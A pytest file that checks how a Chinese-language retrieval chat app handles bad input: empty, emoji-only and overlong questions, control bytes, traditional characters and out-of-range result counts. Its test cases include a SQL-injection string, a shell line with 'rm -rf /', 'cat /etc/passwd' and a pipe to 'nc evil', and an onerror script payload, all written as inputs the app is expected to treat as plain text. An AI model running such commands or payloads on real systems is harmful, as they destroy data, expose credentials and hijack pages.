"""Bad input, class by class: a clear message or a real search, never a traceback; the server keeps serving and
nothing is written to the index folder. Unit level for the question checks, then through the chat's "ask" API."""

import json
from pathlib import Path

import pytest
from gradio_client import Client
from opencc import OpenCC

from chat_helpers import SCRIPT, serving, shown_text
from rag.errors import QuestionError
from rag.present import escape, format_reply
from rag.search import MAX_QUESTION_CHARS, clean_question, printable

QUESTION = "中国式现代化的中国特色有哪些？"
EMPTY = "请输入一个问题"
NO_WORDS = "问题中没有文字或数字"
CUT = f"只按前 {MAX_QUESTION_CHARS} 字检索"
HELDOUT = Path(__file__).resolve().parent.parent / "bench" / "heldout.jsonl"


def long_question(length: int) -> str:
    """A real question followed by a pasted speech, `length` characters in all."""
    filler = "坚持以人民为中心的发展思想，推动高质量发展。"
    return (QUESTION + filler * (length // len(filler) + 1))[:length]


# ---- the question checks ----------------------------------------------------------------------------------

@pytest.mark.parametrize("question", ["", "   ", " \t\n\r ", None, "\x00", "\x00\x01\x1b\x7f"])
def test_an_empty_or_invisible_question_asks_for_one(question):
    with pytest.raises(QuestionError, match=EMPTY):
        clean_question(question)


@pytest.mark.parametrize("question", ["😀🙏🏻👨‍👩‍👧🇨🇳", "？？！！。。……", "?!.,;:'\"()[]{}<>/\\|`~", "—— ※ ★ → ＠ ＃ ￥ %"])
def test_only_emoji_punctuation_or_symbols_is_told_so_not_searched(question):
    with pytest.raises(QuestionError, match=NO_WORDS):
        clean_question(question)


def test_control_characters_and_nul_bytes_are_dropped():
    asked = clean_question("中国式\x00现代化\x07的\x1b[31m特色\r\n有哪些")
    assert asked.text == "中国式 现代化 的 特色 有哪些"
    assert not any(ord(ch) < 32 or 0x7f <= ord(ch) <= 0x9f for ch in asked.text)


@pytest.mark.parametrize("length", [10_000, 100_000])
def test_a_very_long_question_is_cut_with_a_notice(length):
    asked = clean_question(long_question(length))
    assert asked.text == long_question(length)[:MAX_QUESTION_CHARS]
    assert CUT in asked.notice and f"共 {length} 字" in asked.notice


def test_traditional_characters_are_searched_as_simplified_and_shown_as_written():
    asked = clean_question("中國式現代化的中國特色有哪些？")
    assert asked.text == "中國式現代化的中國特色有哪些？"
    assert asked.searched == "中国式现代化的中国特色有哪些?"  # NFKC, as the keyword side reads text: ？ as ?
    mixed = clean_question("Chinese modernization 中國式現代化 ２０２３年")
    assert mixed.searched == "Chinese modernization 中国式现代化 2023年"
    assert mixed.text == "Chinese modernization 中國式現代化 ２０２３年"


def test_the_notice_stands_above_the_passages_escaped(searcher):
    result = searcher.search(long_question(10_000) + SCRIPT, k=2)
    reply = format_reply(result, searcher.neighbours)
    assert reply.index(escape(result.notice)) < reply.index('class="ev-summary"') < reply.index('class="ev-card"')


# ---- through the search -----------------------------------------------------------------------------------

def traditional_heldout(count: int = 8) -> list[tuple[str, str]]:
    """(simplified, traditional) pairs of the held-out Chinese questions whose traditional form differs."""
    to_traditional = OpenCC("s2t")
    records = [json.loads(line) for line in HELDOUT.open(encoding="utf-8") if line.strip()]
    pairs = [(r["question"], to_traditional.convert(r["question"])) for r in records if r["lang"] == "zh"]
    return [(s, t) for s, t in pairs if s != t][:count]


def test_a_traditional_question_finds_what_its_simplified_form_finds(searcher):
    pairs = traditional_heldout()
    assert len(pairs) == 8
    for simplified, traditional in pairs:
        expected, found = searcher.search(simplified, k=5), searcher.search(traditional, k=5)
        assert [h.passage.id for h in found.hits] == [h.passage.id for h in expected.hits], traditional
        assert found.question == traditional and found.no_answer == expected.no_answer


def test_a_mixed_chinese_english_question_finds_the_chinese_passages(searcher):
    result = searcher.search("中国式现代化 Chinese modernization 的 characteristics 有哪些？", k=3)
    assert not result.no_answer and "中国式现代化" in result.hits[0].passage.text


# ---- through the served chat ------------------------------------------------------------------------------

def folder_state(folder: Path) -> dict[str, tuple[int, int]]:
    """Every file under the folder with its size and modification time."""
    return {str(p.relative_to(folder)): (p.stat().st_size, p.stat().st_mtime_ns) for p in sorted(folder.rglob("*"))}


@pytest.fixture(scope="module")
def chat(searcher, built_settings):
    before = folder_state(built_settings.index_dir)
    with serving(searcher, built_settings) as url:
        yield Client(url, verbose=False)
    assert folder_state(built_settings.index_dir) == before, "a question changed the index folder"


def messages(client, question, k=5) -> list[str]:
    history, cleared = client.predict(question, [], k, [], api_name="/ask")
    texts = [m["content"][0]["text"] for m in history]
    assert cleared == "" and all("Traceback" not in t and "Error" not in t for t in texts)
    return texts


def reply_kind(reply: str) -> str:
    if "ev-error" in reply:
        return "message"
    return "not found" if "ev-not-found" in reply else "passages"


# (question, what the reader gets, a text the reply must show)
CASES = {
    "empty": ("", "message", EMPTY),
    "whitespace only": (" \t \n ", "message", EMPTY),
    "nul bytes only": ("\x00\x00\x00", "message", EMPTY),
    "control characters": ("中国式\x00现代化\x07的\x1b[31m中国特色\x1b[0m有哪些？", "passages", ""),
    "emoji only": ("😀🙏🏻👨‍👩‍👧", "message", NO_WORDS),
    "punctuation only": ("？？！！。。……!!", "message", NO_WORDS),
    "10,000 characters": (long_question(10_000), "passages", CUT),
    "100,000 characters": (long_question(100_000), "passages", CUT),
    "traditional": ("中國式現代化的中國特色有哪些？", "passages", ""),
    "mixed Chinese-English": ("中国式现代化 Chinese modernization 的特色", "passages", ""),
    "SQL-like": ("'; DROP TABLE passages; -- 中国式现代化 OR 1=1", "passages", ""),
    "shell-like": ("$(rm -rf /) `cat /etc/passwd` | nc evil 1 && 中国式现代化", "passages", ""),
    "script": (f"{SCRIPT}<img src=x onerror=alert(1)>中国式现代化", "passages", ""),
    "off topic": ("如何做红烧肉？", "not found", ""),
}


@pytest.mark.parametrize("name", list(CASES))
def test_each_kind_of_bad_input_gets_its_reply_through_the_api(chat, name):
    question, kind, shown = CASES[name]
    *echo, reply = messages(chat, question)
    assert reply_kind(reply) == kind and shown in shown_text(reply)
    assert "<script" not in reply and "<img" not in reply
    readable = printable(question)
    assert len(echo) == (1 if readable else 0)  # the question is echoed unless nothing readable was asked
    for echoed in echo:
        assert not any(tag in echoed for tag in ("<script", "<img", "\x00", "\x1b"))
        if len(question) <= 300:  # longer ones are echoed shortened
            assert shown_text(echoed) == readable


def test_traditional_question_shows_the_same_passages_as_simplified(chat):
    *_, simplified = messages(chat, QUESTION)
    [echo, traditional] = messages(chat, "中國式現代化的中國特色有哪些？")
    assert shown_text(echo) == "中國式現代化的中國特色有哪些？"
    assert traditional == simplified


@pytest.mark.parametrize("k, refusal", [(0, "less than minimum value 1"), (-3, "less than minimum value 1"),
                                        (10**9, "greater than maximum value 20")])
def test_a_k_outside_the_slider_is_refused_with_its_range(chat, k, refusal):
    with pytest.raises(Exception, match=refusal):
        chat.predict(QUESTION, [], k, [], api_name="/ask")


@pytest.mark.parametrize("k", ["abc", None, [3], "nan", "inf"])
def test_a_k_that_is_not_a_number_is_refused_with_its_range(chat, k):
    with pytest.raises(Exception, match="must be a number from 1 to 20") as refused:
        chat.predict(QUESTION, [], k, [], api_name="/ask")
    assert "Traceback" not in str(refused.value) and "File \"" not in str(refused.value)
    # The check is set on the slider, not in a Component subclass, for which Gradio would write app.pyi.
    assert not (HELDOUT.parent.parent / "app.pyi").exists()


def test_a_fractional_k_is_rounded_and_the_chat_keeps_serving(chat):
    *_, reply = messages(chat, QUESTION, k=2.4)
    assert reply.count('class="ev-card"') == 2
    *_, reply = messages(chat, QUESTION, k=20)
    assert reply.count('class="ev-card"') == 20


def test_an_unexpected_failure_reaches_the_reader_as_one_plain_line(searcher, caplog):
    from app import SEARCH_FAILED, reply_to

    class FailingSearcher:  # the real searcher whose search breaks, as a damaged memory or library bug would
        neighbours = searcher.neighbours

        def search(self, *args, **kwargs):
            raise RuntimeError("faiss: something deep went wrong")

    [echo, reply] = reply_to(FailingSearcher(), QUESTION, [], 3, None)
    assert shown_text(reply["content"]) == SEARCH_FAILED and "faiss" not in reply["content"]
    assert "something deep went wrong" in caplog.text  # the maintainer gets the traceback in the log
